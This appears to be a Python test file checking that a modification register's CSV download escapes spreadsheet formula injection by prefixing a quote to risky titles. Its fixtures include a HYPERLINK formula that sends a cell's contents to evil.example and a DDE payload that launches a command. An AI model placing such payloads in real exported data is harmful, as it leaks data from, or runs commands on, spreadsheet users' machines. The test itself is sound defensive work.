"""The register as CSV, as a spreadsheet user gets it: read back with Python's csv module."""

from __future__ import annotations

import csv
import io
import json

from conftest import SETTINGS, VALID_MODIFICATION
from secsite import views
from secsite.checks import check_data
from secsite.model.diagnostics import errors
from secsite.render import downloads

# Titles a spreadsheet would run as formulas (OWASP, "CSV Injection"): each starts with =, +, -, @
# or a tab (check refuses a carriage return in a title). The second holds a comma and quotes, which
# must stay inside its one cell.
HOSTILE = {
    "MP101": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "MP102": '+1+cmd|\' /C calc\'!A0, "quoted"',
    "MP103": "-2+3",
    "MP104": "@SUM(1,2)",
    "MP105": "\t=1+1",
}
# Ordinary titles with the same characters further in: left as written.
ORDINARY = {
    "MP106": "Smart meters - 2027-06 changes",
    "MP107": "Costs = benefits? A review of +/- figures",
}


def _register(data) -> list[dict[str, str]]:
    for mod_id, title in {**HOSTILE, **ORDINARY}.items():
        text = VALID_MODIFICATION.replace("id: MP100", f"id: {mod_id}")
        text = text.replace("title: Improve something", f"title: {json.dumps(title)}")  # JSON is YAML
        data.write(f"modifications/{mod_id}.yml", text)
    _, schedule, problems = check_data(data.root, SETTINGS)
    assert not errors(problems), problems
    content = downloads.register_csv(views.register_rows(schedule))
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_titles_a_spreadsheet_would_run_start_with_a_quote(data):
    rows = {row["id"]: row for row in _register(data)}
    for mod_id, title in HOSTILE.items():
        assert rows[mod_id]["title"] == "'" + title, mod_id
    for mod_id, title in ORDINARY.items():
        assert rows[mod_id]["title"] == title, mod_id
    assert rows["MP100"]["title"] == "Improve something"


def test_ids_dates_and_words_are_unchanged(data):
    rows = _register(data)
    assert [row["id"] for row in rows] == ["MP100", *HOSTILE, *ORDINARY]  # one row each: quoting held
    # Every modification is the conftest one under another title: June 2027 if approved by
    # 1 December 2026, its go-live the last Thursday of June 2027 (R1), 24 June 2027.
    for row in rows:
        assert (row["stage"], row["route"], row["release"], row["release_status"]) == (
            "refinement", "self-governance", "2027-06", "Targeted")
        assert row["implementation"] == "Targeted for 24 June 2027 (June 2027 SEC Release)"
        assert row["implementation_date"] == "2027-06-24"
        assert (row["dcc_systems"], row["user_systems"], row["party_categories"]) == ("yes", "no", "large_suppliers")
        assert (row["next_key_date"], row["next_key_date_label"]) == ("2026-12-01", "Decision needed by")
